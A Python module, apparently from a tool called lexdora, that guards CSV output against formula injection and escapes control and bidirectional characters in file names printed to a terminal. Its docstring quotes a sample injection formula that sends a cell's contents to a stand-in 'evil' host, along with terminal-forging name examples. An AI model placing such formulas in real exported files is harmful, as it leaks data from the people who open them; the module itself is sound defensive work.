"""Output that cannot be turned against its reader: CSV cells that a spreadsheet would run as
formulas, and names that would forge or garble lines on a terminal.

CSV: a cell starting with =, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and
Google Sheets as a formula (`=HYPERLINK("http://evil/?"&A1, "click")`, DDE payloads). Such a cell
is written with a leading apostrophe, which spreadsheets show as text and do not display (OWASP's
"CSV Injection" advice). A cell that is just a number ("-0.5", "+3", "1e-3") is left as it is. A
cell that already starts with an apostrophe gets one more, so `restore` gives back exactly what was
written: the batch output is also its own resume log.

Encoding: CSV files are UTF-8 with a byte-order mark (CSV_ENCODING). Excel reads a CSV file without
one in the computer's ANSI code page and garbles curly quotes, dashes and accents; with it, Excel reads
UTF-8. Read such a file back with encoding="utf-8-sig", which takes the mark off (and reads files
without one alike).

Terminal: printable_name() escapes control characters (newline, carriage return, ESC and the rest
of C0/C1), bidirectional and other invisible format characters, line separators and undecodable
bytes of a file name, so a name like "a.pdf\\nOK: all files read" or "\\x1b[2J" prints as one
visible line.
"""
from __future__ import annotations

import os
import re
import unicodedata
from collections.abc import Mapping
from typing import Any

CSV_ENCODING = "utf-8-sig"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_QUOTE = "'"
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """`value` with an apostrophe in front if it is text a spreadsheet would run (or an apostrophe cell)."""
    if isinstance(value, str) and value[:1] in (*FORMULA_START, _QUOTE) and not _NUMBER.fullmatch(value):
        return _QUOTE + value
    return value


def restore(value: Any) -> Any:
    """The inverse of `neutralise`, for a cell read back from a file lexdora wrote."""
    if isinstance(value, str) and len(value) > 1 and value[0] == _QUOTE and value[1] in (*FORMULA_START, _QUOTE):
        return value[1:]
    return value


def neutralise_row(row: Mapping) -> dict:
    return {k: neutralise(v) for k, v in row.items()}


def restore_row(row: Mapping) -> dict:
    return {k: restore(v) for k, v in row.items()}


# --- names on a terminal ---------------------------------------------------------------------

_ESCAPED_CATEGORIES = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}
_SHORT = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def printable_name(name: str | bytes | os.PathLike) -> str:
    """`name` safe to print on one terminal line: control, format and unassigned characters escaped.

    "evil\\nOK.pdf" -> "evil\\\\nOK.pdf" (a backslash and an n, not a line break); ESC -> "\\\\x1b";
    U+202E (right-to-left override) -> "\\\\u202e"; an undecodable byte of a POSIX file name
    (surrogate-escaped by Python) -> "\\\\xNN". Ordinary letters of any script are kept.
    """
    if isinstance(name, os.PathLike):
        name = os.fspath(name)
    if isinstance(name, bytes):
        name = os.fsdecode(name)
    out = []
    for ch in name:
        if unicodedata.category(ch) not in _ESCAPED_CATEGORIES:
            out.append(ch)
        elif ch in _SHORT:
            out.append(_SHORT[ch])
        elif 0xDC80 <= ord(ch) <= 0xDCFF:  # a byte that was not valid in the file system's encoding
            out.append(f"\\x{ord(ch) - 0xDC00:02x}")
        elif ord(ch) <= 0xFF:
            out.append(f"\\x{ord(ch):02x}")
        elif ord(ch) <= 0xFFFF:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(f"\\U{ord(ch):08x}")
    return "".join(out)
